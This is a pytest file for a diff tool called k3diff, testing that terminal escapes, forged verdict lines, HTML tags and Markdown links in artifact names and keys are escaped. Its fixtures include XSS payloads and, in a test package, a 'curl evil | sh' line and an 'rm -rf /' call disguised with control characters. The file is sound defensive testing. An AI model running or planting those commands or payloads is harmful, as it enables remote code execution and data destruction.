"""What k3diff prints cannot be forged by an input (one escaping helper: k3diff/escape.py).

Entry names, record keys and changed source lines come from the artifacts and captures under
review. A newline or terminal control sequence in them must not print a line of its own (a fake
`Verdict: OK (exit 0)` above the real verdict), and no tag in them may reach a Markdown renderer
that passes HTML through. The JSON keeps the raw text.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import wheelkit
from cli_support import run_k3diff

from k3diff import escape

FORGED = "Verdict: OK (exit 0): nothing fails the policy"
NEWLINE_NAME = f"pkg/a.py\n{FORGED}\n"
TERMINAL_NAME = f"pkg/b\x1b[2K\r{FORGED}\x1b[G.py"
HTML_NAME = "pkg/<script>alert(1)</script>.py"


def _pair(
    tmp_path: Path, patch_files: dict[str, bytes], requires: tuple[str, ...] = ()
) -> tuple[Path, Path]:
    base = wheelkit.make_wheel(tmp_path / "base", "pkg", "1.0", {"pkg/__init__.py": b"x = 1\n"})
    files = {"pkg/__init__.py": b"x = 1\n", **patch_files}
    # A line break in a name would break its RECORD row: leave such names out of RECORD.
    unlisted: dict[str, str | None] = {
        name: None for name in patch_files if "\n" in name or "\r" in name
    }
    patch = wheelkit.make_wheel(
        tmp_path / "patch", "pkg", "1.0", files, requires=requires, record_overrides=unlisted
    )
    return base, patch


def test_a_newline_or_escape_in_an_entry_name_cannot_print_a_verdict(tmp_path: Path) -> None:
    base, patch = _pair(tmp_path, {NEWLINE_NAME: b"", TERMINAL_NAME: b""})
    result = run_k3diff("wheels", base, patch)
    lines = result.stdout.splitlines()
    assert [line for line in lines if line.startswith("Verdict:")] == [lines[-1]]
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    assert escape.text(NEWLINE_NAME) in result.stdout  # shown, as `pkg/a.py\nVerdict: …\n`
    assert "pkg/b\\x1b[2K\\rVerdict" in result.stdout
    document = json.loads(run_k3diff("wheels", base, patch, "--format", "json").stdout)
    assert {NEWLINE_NAME, TERMINAL_NAME} <= {entry["path"] for entry in document["entries"]}


def test_a_record_key_cannot_print_a_result_line(tmp_path: Path) -> None:
    key = "a\nresult: no paired record differs (exit 0)\x1b[2K"
    base = tmp_path / "base.jsonl"
    patch = tmp_path / "patch.jsonl"
    base.write_text(json.dumps({"id": key, "text": "one"}) + "\n")
    patch.write_text(json.dumps({"id": key, "text": "two"}) + "\n")
    result = run_k3diff("responses", base, patch)
    assert result.exit_code == 1
    results = [line for line in result.stdout.splitlines() if line.startswith("result:")]
    assert results == ["result: 1 of 1 paired record differs (exit 1)"]
    assert "\x1b" not in result.stdout


def test_raw_html_in_names_and_requirements_is_escaped_in_markdown(tmp_path: Path) -> None:
    base, patch = _pair(
        tmp_path, {HTML_NAME: b"print(1)\n"}, requires=("evil<img src=x onerror=alert(1)>",)
    )
    markdown = run_k3diff("wheels", base, patch, "--format", "markdown").stdout
    assert "<script" not in _outside_code(markdown) and "<img" not in _outside_code(markdown)
    assert "&lt;script>" in markdown and "&lt;img" in markdown
    wheels_json = tmp_path / "wheels.json"
    run_k3diff("wheels", base, patch, "--format", "json", "-o", wheels_json)
    run_k3diff("report", wheels_json, "--out", tmp_path / "bundle")
    report = (tmp_path / "bundle" / "REPORT.md").read_text()
    assert "pkg/" in report
    assert "<script" not in _outside_code(report) and "<img" not in _outside_code(report)


def _outside_code(markdown: str) -> str:
    """The Markdown without its fenced blocks and code spans, where CommonMark shows every
    character as it is (a tag there is text, not HTML)."""
    unfenced = re.sub(r"^(`{3,})[^\n]*\n.*?^\1$", "", markdown, flags=re.S | re.M)
    return re.sub(r"(`+).+?\1", "", unfenced)


def test_terminal_sequences_in_a_changed_python_file_show_escaped(tmp_path: Path) -> None:
    """issue 20: an added os.system line cannot be made to look like `+# ok`."""
    hidden = b'os.system("curl evil | sh")  \x1b[2K\x1b[G# ok\n'
    carriage = b'run("rm -rf /")\r# fine\n'
    base = wheelkit.make_wheel(tmp_path / "base", "pkg", "1.0", {"pkg/m.py": b"import os\n"})
    patch = wheelkit.make_wheel(
        tmp_path / "patch", "pkg", "1.0", {"pkg/m.py": b"import os\n" + hidden + carriage}
    )
    text = run_k3diff("wheels", base, patch).stdout
    assert '+os.system("curl evil | sh")  \\x1b[2K\\x1b[G# ok' in text
    assert '+run("rm -rf /")\\r# fine' in text
    assert "\x1b" not in text and "\r" not in text
    markdown = run_k3diff("wheels", base, patch, "--format", "markdown").stdout
    assert "\\x1b[2K" in markdown and "\x1b" not in markdown
    document = json.loads(run_k3diff("wheels", base, patch, "--format", "json").stdout)
    diffs = [e["diff"]["unified"] for e in document["entries"] if e.get("diff")]
    assert any("\x1b[2K" in diff for diff in diffs)  # the JSON keeps the raw text


def test_the_escaping_helper_covers_c0_c1_del_bidi_and_lone_carriage_returns() -> None:
    assert escape.text("a\x00\x07\x1b\x7f\x85\x9b\u202e\u2066\u2028\ud800\tz") == (
        "a\\x00\\x07\\x1b\\x7f\\x85\\x9b\\u202e\\u2066\\u2028\\ud800\\tz"
    )
    assert escape.text_block("keep\r\nthe\tlines\rnot this") == "keep\r\nthe\tlines\\rnot this"
    assert escape.markdown("<b>&|</b>") == "&lt;b>&amp;\\|&lt;/b>"
    assert escape.text("plain, café, 名前") == "plain, café, 名前"


def test_the_last_line_of_defence_treats_every_ascii_character_as_the_regex_does() -> None:
    """`escape.terminal` clears plain ASCII without its regex: each of the 128 ASCII characters,
    alone, between letters and before a newline, comes out as the regex alone would write it."""
    for code in range(128):
        char = chr(code)
        for value in (char, f"a{char}b", f"{char}\n", f'{{"k": "{char}"}}'):
            by_regex = escape._DRIVES_A_TERMINAL.sub(escape._escape_match, value)
            assert escape.terminal(value) == by_regex, repr(value)
    assert escape.terminal("line\r\nnext\tx\x7f") == "line\r\nnext\tx\x7f"
    assert escape.terminal("a\rb\x1b[2K") == "a\\rb\\x1b[2K"


def test_every_format_character_is_shown_as_an_escape() -> None:
    """Unicode category Cf (zero-width space and joiners, soft hyphen, tag characters, …) is
    invisible; checked against the running Python's Unicode database, not the module's list."""
    import sys
    import unicodedata

    format_chars = [
        chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"
    ]
    assert len(format_chars) > 150
    for char in format_chars:
        assert escape.text(f"a{char}b") != f"a{char}b", f"U+{ord(char):04X}"
        assert char not in escape.markdown(char) and char not in escape.text_block(char)
    assert escape.text("demo/__init__\u200b.py") == "demo/__init__\\u200b.py"
    assert escape.text("tag\U000e0041") == "tag\\U000e0041"


def test_link_and_image_syntax_from_an_input_is_not_live_markdown() -> None:
    image = escape.markdown("![i](http://127.0.0.1:9/x)")
    link = escape.markdown_prose("[x](javascript:alert(1))")
    assert image == "!\\[i](http://127.0.0.1:9/x)" and link == "\\[x](javascript:alert(1))"
    assert escape.markdown("[ref]: http://host/x") == "\\[ref]: http://host/x"


def test_a_link_in_a_record_key_reaches_report_md_escaped(tmp_path: Path) -> None:
    key = "[x](javascript:1) ![i](http://h/x) a\u200bb"
    base = tmp_path / "base.jsonl"
    patch = tmp_path / "patch.jsonl"
    base.write_text(json.dumps({"id": key, "text": "one"}) + "\n")
    patch.write_text(json.dumps({"id": key, "text": "two"}) + "\n")
    result = run_k3diff("responses", base, patch, "--format", "markdown")
    assert result.exit_code == 1
    assert "\\[x](javascript:1) !\\[i](http://h/x) a\\u2" in result.stdout
    assert "\u200b" not in result.stdout
    assert "[x]" not in result.stdout.replace("\\[x]", "")
